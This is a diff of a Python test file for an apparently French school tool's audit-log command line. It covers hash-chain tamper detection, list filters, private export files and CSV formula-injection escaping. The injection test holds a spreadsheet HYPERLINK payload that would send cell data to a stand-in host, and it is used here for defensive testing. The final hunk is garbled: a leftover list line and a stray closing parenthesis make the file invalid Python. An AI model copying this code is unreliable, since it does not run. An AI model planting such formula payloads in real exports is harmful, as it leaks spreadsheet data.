@@ -23,7 +23,6 @@ from sqlalchemy import delete, select, text, update
 from sqlalchemy.exc import DBAPIError
 from sqlalchemy.orm import Session
 
-from educonnect_tui.cli import main
 from educonnect_tui.domain.model.calendar import parse_date
 from educonnect_tui.domain.model.enums import StaffRole
 from educonnect_tui.domain.model.errors import InvalidInput, PermissionDenied
@@ -35,6 +34,7 @@ from educonnect_tui.domain.store.audit import Actor
 from educonnect_tui.domain.store.services import Services
 from tests import factories
 from tests.conftest import FakeClock
+from tests.helpers import RunCli
 
 UAI = factories.DEFAULT_UAI
 OTHER_UAI = "0941876D"
@@ -279,48 +279,32 @@ def test_chain_continues_after_truncate_on_postgres_and_demo_style_reset(
 # -- command line -------------------------------------------------------------------------
 
 
-@pytest.fixture
-def env(services: Services, monkeypatch: pytest.MonkeyPatch) -> Services:
-    monkeypatch.setenv("EDUCONNECT_DATABASE_URL", services.settings.database_url)
-    monkeypatch.setenv("EDUCONNECT_CONFIG", "/nonexistent/config.toml")
-    return services
-
-
-def run(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
-    try:
-        code = main(args)
-    except SystemExit as exit_:
-        code = int(exit_.code or 0)
-    out, err = capsys.readouterr()
-    return code, out, err
-
-
 def test_cli_verify_intact_then_tampered(
-    env: Services, trail: dict[str, Any], capsys: pytest.CaptureFixture[str]
+    cli_env: Services, trail: dict[str, Any], run_cli: RunCli
 ) -> None:
-    assert run(["audit", "verify"], capsys) == (0, "chaîne intacte : 5 enregistrements\n", "")
-    code, out, _ = run(["audit", "verify", "--format", "json"], capsys)
+    assert run_cli(["audit", "verify"]) == (0, "chaîne intacte : 5 enregistrements\n", "")
+    code, out, _ = run_cli(["audit", "verify", "--format", "json"])
     assert code == 0 and json.loads(out)["intact"] is True
-    with attacker(env) as session:
+    with attacker(cli_env) as session:
         session.execute(
             update(AuditEvent).where(AuditEvent.id == trail["e2"]).values(details={"count": 1})
         )
-    code, out, err = run(["audit", "verify"], capsys)
+    code, out, err = run_cli(["audit", "verify"])
     assert code == 1 and err == ""
     assert out.startswith(f"chaîne rompue à l'enregistrement n° {trail['e2']} : ")
     assert "modifié" in out
-    code, out, _ = run(["audit", "verify", "--format", "json"], capsys)
+    code, out, _ = run_cli(["audit", "verify", "--format", "json"])
     assert code == 1
     assert json.loads(out)["broken_at"] == trail["e2"]
 
 
 def test_cli_verify_deleted_last_record(
-    env: Services, trail: dict[str, Any], capsys: pytest.CaptureFixture[str]
+    cli_env: Services, trail: dict[str, Any], run_cli: RunCli
 ) -> None:
-    with attacker(env) as session:
+    with attacker(cli_env) as session:
         session.execute(delete(AuditTarget).where(AuditTarget.event_id == trail["e5"]))
         session.execute(delete(AuditEvent).where(AuditEvent.id == trail["e5"]))
-    code, out, _ = run(["audit", "verify"], capsys)
+    code, out, _ = run_cli(["audit", "verify"])
     assert code == 1
     assert f"n° {trail['e5']}" in out and "supprimé" in out
 
@@ -329,55 +313,53 @@ def _ids(out: str) -> list[int]:
     return [row["id"] for row in json.loads(out)]
 
 
-def test_cli_list_filters(
-    env: Services, trail: dict[str, Any], capsys: pytest.CaptureFixture[str]
-) -> None:
+def test_cli_list_filters(cli_env: Services, trail: dict[str, Any], run_cli: RunCli) -> None:
     t = trail
-    code, out, _ = run(["audit", "list", "--format", "json"], capsys)
+    code, out, _ = run_cli(["audit", "list", "--format", "json"])
     assert code == 0 and _ids(out) == [t["e5"], t["e4"], t["e3"], t["e2"], t["e1"]]
     base = ["audit", "list", "--uai", UAI, "--format", "json"]
-    assert _ids(run(base, capsys)[1]) == [t["e5"], t["e3"], t["e2"], t["e1"]]
-    assert _ids(run([*base, "--action", "notify"], capsys)[1]) == [t["e2"]]
-    assert _ids(run([*base, "--action", "(re)notification"], capsys)[1]) == [t["e2"]]
+    assert _ids(run_cli(base)[1]) == [t["e5"], t["e3"], t["e2"], t["e1"]]
+    assert _ids(run_cli([*base, "--action", "notify"])[1]) == [t["e2"]]
+    assert _ids(run_cli([*base, "--action", "(re)notification"])[1]) == [t["e2"]]
     login1 = str(t["login1"])
-    assert _ids(run([*base, "--account", login1], capsys)[1]) == [t["e3"], t["e2"]]
-    assert _ids(run([*base, "--actor", "k.haddad"], capsys)[1]) == [t["e3"]]
+    assert _ids(run_cli([*base, "--account", login1])[1]) == [t["e3"], t["e2"]]
+    assert _ids(run_cli([*base, "--actor", "k.haddad"])[1]) == [t["e3"]]
     # 01/09 08:00 UTC is 10:00 in Paris; each event one day later.
-    assert _ids(run([*base, "--since", "02/09/2026", "--until", "03/09/2026"], capsys)[1]) == [
+    assert _ids(run_cli([*base, "--since", "02/09/2026", "--until", "03/09/2026"])[1]) == [
         t["e3"],
         t["e2"],
     ]
-    code, out, _ = run(["audit", "list", "--uai", UAI, "--action", "notify"], capsys)
+    code, out, _ = run_cli(["audit", "list", "--uai", UAI, "--action", "notify"])
     assert code == 0 and "(re)notification" in out and "3 : " in out
-    code, out, _ = run(["audit", "list", "--uai", UAI, "--format", "csv"], capsys)
+    code, out, _ = run_cli(["audit", "list", "--uai", UAI, "--format", "csv"])
     assert out.splitlines()[0] == "N°;Date;Qui;Depuis;Action;Comptes;Détails"
-    code, _, err = run(["audit", "list", "--since", "31/02/2026"], capsys)
+    code, _, err = run_cli(["audit", "list", "--since", "31/02/2026"])
     assert code == 2 and "JJ/MM/AAAA" in err
-    code, _, err = run(["audit", "list", "--action", "Quoi ?"], capsys)
+    code, _, err = run_cli(["audit", "list", "--action", "Quoi ?"])
     assert code == 2 and "inconnue" in err
 
 
 def test_cli_list_output_file_is_private_and_audited(
-    env: Services, trail: dict[str, Any], capsys: pytest.CaptureFixture[str], tmp_path: Path
+    cli_env: Services, trail: dict[str, Any], run_cli: RunCli, tmp_path: Path
 ) -> None:
     target = tmp_path / "extraits" / "journal.csv"
-    code, out, _ = run(
-        ["audit", "list", "--uai", UAI, "--format", "csv", "--output", str(target)], capsys
+    code, out, _ = run_cli(
+        ["audit", "list", "--uai", UAI, "--format", "csv", "--output", str(target)]
     )
     assert code == 0 and "4 événement(s)" in out
     assert stat.S_IMODE(os.stat(target).st_mode) == 0o600
     assert len(target.read_text().splitlines()) == 5
-    with env.sessions() as session:
+    with cli_env.sessions() as session:
         last = session.scalars(select(AuditEvent).order_by(AuditEvent.id.desc())).first()
         assert last is not None and last.action == "export"
         assert last.establishment_id == trail["school"]
         assert last.details["path"] == str(target) and last.details["rows"] == 4
         assert last.details["format"] == "csv"
-    assert _verify(env).ok
+    assert _verify(cli_env).ok
 
 
 def test_cli_csv_export_leaves_no_formula_to_run(
-    env: Services, trail: dict[str, Any], capsys: pytest.CaptureFixture[str], tmp_path: Path
+    cli_env: Services, trail: dict[str, Any], run_cli: RunCli, tmp_path: Path
 ) -> None:
     """A label that reached the trail as a formula must stay text in the spreadsheet.
 
@@ -386,20 +368,21 @@ def test_cli_csv_export_leaves_no_formula_to_run(
     """
     formula = '=HYPERLINK("https://example.invalid/?"&A1;"Ouvrir")'
     _record(
-        env,
+        cli_env,
         "sign_in",
         establishment_id=trail["school"],
         actor=Actor(label=formula, source_address="@SUM(1+1)"),
     )
     target = tmp_path / "journal.csv"
-    code, _, _ = run(
-        ["audit", "list", "--uai", UAI, "--format", "csv", "--output", str(target)], capsys
+    args = ["audit", "list", "--uai", UAI, "--format", "csv", "--output", str(target)]
+    code, _, _ = run_cli(args)
+        ["audit", "list", "--uai", UAI, "--format", "csv", "--output", str(target)]
     )
     assert code == 0
     header, newest, *_ = csv.reader(io.StringIO(target.read_text()), delimiter=";")
     assert header[2:4] == ["Qui", "Depuis"]
     assert newest[2:4] == ["'" + formula, "'@SUM(1+1)"]
-    code, out, _ = run(["audit", "list", "--uai", UAI, "--format", "csv"], capsys)
+    code, out, _ = run_cli(["audit", "list", "--uai", UAI, "--format", "csv"])
     assert code == 0 and f"'{formula}".replace('"', '""') in out
 
 
